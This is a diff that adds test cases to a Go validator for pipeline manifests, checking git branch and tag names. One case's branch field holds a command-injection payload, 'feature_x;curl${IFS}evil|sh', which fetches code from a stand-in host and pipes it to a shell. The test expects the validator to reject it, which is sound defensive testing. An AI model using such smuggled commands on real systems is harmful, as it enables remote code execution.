@@ -131,6 +131,42 @@ spec:
   git: {commit: abcdef1}`,
 		want: "exactly one of branch or tag must be set",
 	}, {
+		name: "tag run without a commit",
+		manifest: `
+kind: PipelineRun
+metadata: {name: nocommit}
+spec:
+  pipelineRef: {name: shop}
+  git: {tag: v1.4.0}`,
+		want: "a tag run names its commit",
+	}, {
+		name: "branch with shell metacharacters",
+		manifest: `
+kind: PipelineRun
+metadata: {name: shell}
+spec:
+  pipelineRef: {name: shop}
+  git: {branch: "feature_x;curl${IFS}evil|sh", commit: abcdef1}`,
+		want: "spec.git.branch: Invalid value",
+	}, {
+		name: "tag that git refuses",
+		manifest: `
+kind: PipelineRun
+metadata: {name: dotdot}
+spec:
+  pipelineRef: {name: shop}
+  git: {tag: "v1..4", commit: abcdef1}`,
+		want: "not a valid git ref name",
+	}, {
+		name: "branch ending in .lock",
+		manifest: `
+kind: PipelineRun
+metadata: {name: lock}
+spec:
+  pipelineRef: {name: shop}
+  git: {branch: "feature_x.lock", commit: abcdef1}`,
+		want: "not a valid git ref name",
+	}, {
 		name: "approval with an unknown decision",
 		manifest: `
 kind: Approval
